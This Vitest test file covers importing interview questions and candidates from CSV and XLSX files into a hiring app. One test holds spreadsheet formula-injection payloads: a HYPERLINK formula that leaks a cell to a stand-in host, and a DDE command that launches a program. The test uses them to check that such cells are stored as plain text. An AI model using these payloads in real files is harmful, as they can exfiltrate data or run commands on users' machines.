import { beforeEach, describe, expect, it } from 'vitest';
import {
  commitImport,
  guessMapping,
  ImportRejectedError,
  previewImport,
  readTable,
  rejectedRows,
  type ImportKind,
  type ImportOptions,
  type ImportPreview,
  type ImportTable,
} from '../../electron/services/import';
import { count, create, findByKey, list, loadDemo, searchQuestions, type Database } from '../../electron/store';
import { csvAsXlsx, csvBytes, fixture } from '../fixtures/import/make-fixtures';
import { tempLibrary } from '../helpers/library';

let db: Database;

beforeEach(async () => {
  ({ db } = await tempLibrary());
  loadDemo(db);
});

/** A table as readTable gives it, from rows of cells (the first row is the header). */
async function table(rows: string[][], name = 'import.csv'): Promise<ImportTable> {
  return readTable({ name, bytes: csvBytes(rows) });
}

function preview(kind: ImportKind, t: ImportTable, options: ImportOptions = {}): ImportPreview {
  return previewImport(db, kind, t, guessMapping(kind, t.headers), options);
}

/** Every table's row count, to show that nothing was written. */
const snapshot = () => ({
  questions: count(db, 'questions'),
  banks: count(db, 'questionBanks'),
  candidates: count(db, 'candidates'),
});

const QUESTION_HEADER = ['Question', 'Competencies', 'Probes', 'Minutes'];
const SPRING = 'Spring Hiring Day — Portland';

describe('importing questions', () => {
  it('previews the fixture file: every row valid, names matched, nothing written', async () => {
    const before = snapshot();
    const p = preview('questions', await readTable(fixture('questions.csv')), { bank: 'Imported from CSV' });
    expect(rejectedRows(p)).toEqual([]);
    expect(p.counts).toEqual({ total: 3, valid: 3, rejected: 0 });
    expect(p.kind === 'questions' && p.newBanks).toEqual(['Imported from CSV']);
    expect(snapshot()).toEqual(before);
    const first = p.rows[0];
    expect(first?.ok && first.input).toMatchObject({
      type: 'behavioural',
      bank: 'Imported from CSV',
      minutes: 5,
      required: true,
      tags: ['follow-up', 'phone'],
      competencyIds: [findByKey(db, 'competencies', 'Customer Focus').id, findByKey(db, 'competencies', 'Communication').id],
      probes: [
        { text: 'How did you find out what they needed?', reflection: false },
        { text: 'What did you say when you reached them?', reflection: false },
        { text: 'What did that teach you about how you take messages today?', reflection: true },
      ],
    });
  });

  it('imports a good file in one go into a new bank, and the questions are searchable', async () => {
    const before = snapshot();
    const p = preview('questions', await readTable(fixture('questions.csv')), { bank: 'Imported from CSV' });
    const result = commitImport(db, p);
    expect(result).toMatchObject({ kind: 'questions', imported: 3, skipped: 0, createdBanks: [{ name: 'Imported from CSV' }] });
    expect(result.ids).toHaveLength(3);
    expect(snapshot()).toEqual({ ...before, questions: before.questions + 3, banks: before.banks + 1 });
    const bank = findByKey(db, 'questionBanks', 'Imported from CSV');
    expect(list(db, 'questions').filter((q) => q.bankId === bank.id)).toHaveLength(3);
    const hits = searchQuestions(db, 'voicemail');
    expect(hits.map((h) => h.question.id)).toContain(result.ids[0]);
    expect(searchQuestions(db, 'smudged')[0]?.question.probes).toEqual([
      { text: 'Which items would you set aside first?', reflection: false },
      { text: 'How has a messy job like this shaped how you work now?', reflection: true },
    ]);
  });

  it('imports an XLSX of the same data the same way', async () => {
    const xlsx = await readTable({ name: 'questions.xlsx', bytes: await csvAsXlsx('questions.csv') });
    const fromXlsx = preview('questions', xlsx, { bank: 'Core behavioural' });
    const fromCsv = preview('questions', await readTable(fixture('questions.csv')), { bank: 'Core behavioural' });
    const inputs = (p: ImportPreview) => p.rows.map((r) => (r.ok ? r.input : null));
    expect(inputs(fromXlsx)).toEqual(inputs(fromCsv));
    expect(fromXlsx.kind === 'questions' && fromXlsx.newBanks).toEqual([]);
    expect(commitImport(db, fromXlsx).createdBanks).toEqual([]);
  });

  it('rejects a row naming an unknown competency, with its line and the closest names, and writes nothing', async () => {
    const before = snapshot();
    const t = await table([
      QUESTION_HEADER,
      ['How do you open the store on a snow day?', 'Ownership', 'Who do you call first?', '5'],
      ['How do you greet a regular?', 'Custmer Focus; Teamwork', 'What do you remember about them?', '4'],
      ['What would you check before a rental goes out?', 'Safety Mindset', '', '6'],
    ]);
    const p = preview('questions', t, { bank: 'Core behavioural' });
    expect(p.counts).toEqual({ total: 3, valid: 2, rejected: 1 });
    expect(rejectedRows(p)).toEqual([
      { line: 3, reason: 'Competencies: no competency is named "Custmer Focus" (did you mean "Customer Focus"?)' },
    ]);
    expect(() => commitImport(db, p)).toThrow(ImportRejectedError);
    expect(() => commitImport(db, p)).toThrow(/^Nothing was imported: 1 of 3 rows in "import.csv" has errors \(line 3: Competencies/);
    expect(snapshot()).toEqual(before);
  });

  it('imports only the valid rows when asked to skip the others', async () => {
    const before = snapshot();
    const t = await table([QUESTION_HEADER, ['Tell me about a rush hour.', 'Teamwork', '', '5'], ['Bad minutes', 'Teamwork', '', 'ten']]);
    const result = commitImport(db, preview('questions', t, { bank: 'Core behavioural' }), { skipInvalid: true });
    expect(result).toMatchObject({ imported: 1, skipped: 1 });
    expect(snapshot().questions).toBe(before.questions + 1);
  });

  it('names the column and the value for each problem of a row', async () => {
    const t = await table([
      ['Question', 'Skill', 'Type', 'Minutes', 'Required', 'Difficulty'],
      ['', 'Teamwork', 'tricky', '120', 'perhaps', 'hard'],
    ]);
    const [row] = rejectedRows(preview('questions', t, { bank: 'Core behavioural' }));
    expect(row?.line).toBe(2);
    expect(row?.reason.split('; ')).toEqual([
      'Type: "tricky" must be one of: behavioural, situational, technical, motivational, culture-add, role-specific',
      'Required: "perhaps" must be yes or no (also true/false, 1/0, or x for yes)',
      'Question: is required',
      'Minutes: must be at most 90 minutes',
    ]);
  });

  it('flags a question repeated in the file, or already in the library', async () => {
    const demo = list(db, 'questions')[0];
    const t = await table([
      QUESTION_HEADER,
      ['What makes a good handover?', 'Teamwork', '', '5'],
      ['What makes a  GOOD handover?', 'Teamwork', '', '5'],
      [demo?.text ?? '', 'Teamwork', '', '5'],
    ]);
    const reasons = rejectedRows(preview('questions', t, { bank: 'Core behavioural' }));
    expect(reasons).toEqual([
      { line: 3, reason: 'Question: the same question is also on line 2' },
      { line: 4, reason: expect.stringMatching(/^Question: the library already has this question \(bank ".+"\)$/) },
    ]);
  });

  it('takes the bank from a Bank column, else from the option, creating new banks once', async () => {
    const t = await table([
      ['Question', 'Competencies', 'Bank'],
      ['How do you restock a busy aisle?', 'Teamwork', 'Retail floor and warehouse'],
      ['How do you fix a stuck zipper?', 'Technical Craft', 'Bench basics'],
      ['How do you test a stove?', 'Safety Mindset', 'bench basics'],
      ['Why outdoor retail?', 'Customer Focus', ''],
    ]);
    const p = preview('questions', t, { bank: 'Imported' });
    expect(p.kind === 'questions' && p.newBanks).toEqual(['Bench basics', 'Imported']);
    const result = commitImport(db, p);
    expect(result.createdBanks.map((b) => b.name)).toEqual(['Bench basics', 'Imported']);
    const bankOf = (text: string) => list(db, 'questions').find((q) => q.text === text)?.bankId;
    expect(bankOf('How do you test a stove?')).toBe(findByKey(db, 'questionBanks', 'Bench basics').id);
    expect(bankOf('How do you restock a busy aisle?')).toBe(findByKey(db, 'questionBanks', 'Retail floor and warehouse').id);
    expect(bankOf('Why outdoor retail?')).toBe(findByKey(db, 'questionBanks', 'Imported').id);
  });

  it('refuses a file without a question column, or without a bank to put questions in', async () => {
    const noText = await table([['Owner', 'Remarks'], ['a', 'b']]);
    expect(() => preview('questions', noText, { bank: 'X' })).toThrow(
      'The file "import.csv" has no column for the question text (a column such as "Question"), nor for the competencies (a column such as "Competencies"). Its header row has: "Owner", "Remarks".',
    );
    const noBank = await table([['Question', 'Competencies'], ['a', 'Teamwork']]);
    expect(() => preview('questions', noBank)).toThrow(/Choose the question bank for "import.csv"/);
  });

  it('rejects a row with more cells than the header (a comma left unquoted in a CSV)', async () => {
    const t = await readTable({
      name: 'unquoted.csv',
      bytes: new Uint8Array(Buffer.from('Question,Competencies,Minutes\nHow do you plan, and prioritise?,Teamwork,5\nWhy us?,Teamwork,5\n')),
    });
    expect(rejectedRows(preview('questions', t, { bank: 'Core behavioural' }))).toEqual([
      {
        line: 2,
        reason: expect.stringMatching(
          /^has 1 more cell than the header row has columns \(in a CSV, put quotes around a field that contains the delimiter\); /,
        ),
      },
    ]);
  });

  it('follows a mapping the user chose instead of the guess', async () => {
    const t = await table([['A', 'B', 'C'], ['Teamwork', 'How do you hand over a shift?', 'ignored']]);
    const p = previewImport(db, 'questions', t, { text: 1, competencies: 0 }, { bank: 'Core behavioural' });
    expect(p.rows[0]?.ok && p.rows[0].input.text).toBe('How do you hand over a shift?');
    expect(() => previewImport(db, 'questions', t, { text: 3, competencies: 0 }, { bank: 'X' })).toThrow(
      'The text column (3) is not a column of "import.csv" (it has 3).',
    );
  });

  it('imports formula-looking cells as plain text, never evaluated', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const t = await table([
      ['Question', 'Competencies', 'Listen for', 'Red flags', 'Tags'],
      [evil, 'Teamwork', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3'],
    ]);
    const result = commitImport(db, preview('questions', t, { bank: 'Core behavioural' }));
    const [q] = list(db, 'questions').filter((x) => x.id === result.ids[0]);
    expect(q).toMatchObject({ text: evil, listenFor: "+cmd|' /C calc'!A0", redFlags: '@SUM(1+1)*cmd', tags: ['-2+3'] });
  });
});

describe('importing candidates', () => {
  it('imports the fixture: names joined, roles matched, times on the event’s date', async () => {
    const before = snapshot();
    const p = preview('candidates', await readTable(fixture('candidates.csv')), { event: SPRING });
    expect(rejectedRows(p)).toEqual([]);
    const result = commitImport(db, p);
    expect(result.imported).toBe(3);
    expect(snapshot().candidates).toBe(before.candidates + 3);
    const event = findByKey(db, 'events', SPRING);
    const byName = (name: string) => list(db, 'candidates').find((c) => c.name === name);
    expect(byName('Jamie Rivera')).toMatchObject({
      email: 'jamie.rivera@example.com',
      phone: '+1 503 555 0142',
      pronouns: 'they/them',
      roleId: findByKey(db, 'roles', 'Store Associate').id,
      eventId: event.id,
      interviewAt: `${event.date}T10:30`,
      notes: 'Walk-in from the career fair',
    });
    expect(byName('Priyanka Shah')?.interviewAt).toBe('2027-03-13T11:15');
    expect(byName("Tom O'Neill")).toMatchObject({ interviewAt: '2027-03-13T13:45', roleId: findByKey(db, 'roles', 'Store Associate').id });
  });

  it('rejects a bad email and an unknown role with their lines, and writes nothing', async () => {
    const before = snapshot();
    const t = await table([
      ['Name', 'Email', 'Role', 'Time slot'],
      ['Ada Lovelace', 'ada@example.com', 'Store Associate', '2027-03-13 09:00'],
      ['Grace Hopper', 'grace@@example', 'Store Associate', '2027-03-13 09:30'],
      ['Alan Turing', 'alan@example.com', 'Store Asociate', '10:00'],
    ]);
    const p = preview('candidates', t);
    expect(rejectedRows(p)).toEqual([
      { line: 3, reason: 'Email: "grace@@example" must be an email address' },
      {
        line: 4,
        reason:
          'Role: no role is named "Store Asociate" (did you mean "Store Associate" or "Store Shift Lead"?); Time slot: "10:00" is a time without a date; add the date, or an event whose date to use',
      },
    ]);
    expect(() => commitImport(db, p)).toThrow(/^Nothing was imported: 2 of 3 rows in "import.csv" have errors/);
    expect(snapshot()).toEqual(before);
  });

  it('flags duplicates in the file and candidates already in the library (same email, or same name and role)', async () => {
    const ana = list(db, 'candidates').find((c) => c.name === 'Ana Ruiz');
    const role = list(db, 'roles').find((r) => r.id === ana?.roleId);
    const t = await table([
      ['Name', 'Email', 'Role'],
      ['Kim Lee', 'kim@example.com', 'Store Associate'],
      ['Kimberly Lee', 'KIM@example.com', 'Store Associate'],
      ['kim  lee', 'other@example.com', 'store associate'],
      ['Kim Lee', 'kim.lee@example.com', 'Store Shift Lead'],
      ['Ana Ruiz', '', role?.title ?? ''],
      ['Someone Else', ana?.email ?? '', ''],
    ]);
    expect(rejectedRows(preview('candidates', t))).toEqual([
      { line: 3, reason: 'Email: "KIM@example.com" is also on line 2' },
      { line: 4, reason: 'Name: "kim  lee" for the same role is also on line 2' },
      { line: 6, reason: 'Name: "Ana Ruiz" for the same role is already a candidate in the library' },
      { line: 7, reason: `Email: "${ana?.email}" is already the email of candidate "Ana Ruiz" in the library` },
    ]);
  });

  it('keeps names with emoji and right-to-left text exactly', async () => {
    const names = ['Zoë 🌟 Park', 'سارة أحمد', 'דוד כהן', '李小龍 (Bruce)'];
    const t = await table([['Full name', 'Preferred name'], ...names.map((n) => [n, `${n.split(' ')[0]} 👋`])]);
    const result = commitImport(db, preview('candidates', t));
    const stored = list(db, 'candidates').filter((c) => result.ids.includes(c.id));
    expect(stored.map((c) => c.name).sort()).toEqual([...names].sort());
    expect(stored.find((c) => c.name === 'سارة أحمد')?.preferredName).toBe('سارة 👋');
  });

  it('refuses an unknown --event up front, naming the closest events', async () => {
    const t = await table([['Name'], ['Ada Lovelace']]);
    expect(() => preview('candidates', t, { event: 'Spring Hiring Day' })).toThrow(
      `No hiring event matches "Spring Hiring Day". Did you mean: "${SPRING}"?`,
    );
  });

  it('takes the date from a date column when the time stands alone', async () => {
    const t = await table([['Name', 'Interview date', 'Interview time'], ['Ada Lovelace', '4/10/2027', '2:30 PM'], ['Bo Li', '2027-04-10', '']]);
    const p = preview('candidates', t, { event: SPRING });
    const first = p.kind === 'candidates' ? p.rows[0] : undefined;
    expect(first?.ok && first.input.interviewAt).toBe('2027-04-10T14:30');
    expect(rejectedRows(p)).toEqual([{ line: 3, reason: 'Interview time: is empty, but the date "2027-04-10" is given; add the time' }]);
  });

  it('writes nothing when the library changed since the preview', async () => {
    const t = await table([['Name', 'Email'], ['Ada Lovelace', 'ada@example.com'], ['Bo Li', 'bo@example.com']]);
    const p = preview('candidates', t);
    create(db, 'candidates', { name: 'Bo Li (added meanwhile)', email: 'bo@example.com' });
    const before = snapshot();
    expect(() => commitImport(db, p)).toThrow(/^Nothing was imported: line 3 of "import.csv" became a candidate the library already has/);
    expect(snapshot()).toEqual(before);
  });

  it('checks a preview handed back (e.g. from the window) before writing it', () => {
    const forged = { kind: 'candidates', file: 'x.csv', rows: [{ line: 2, ok: true, input: { name: '', email: 'nope' } }], counts: { total: 1, valid: 1, rejected: 0 } };
    expect(() => commitImport(db, forged as unknown as ImportPreview)).toThrow(/^Invalid import preview: rows\.0\.input\.name is required/);
  });
});
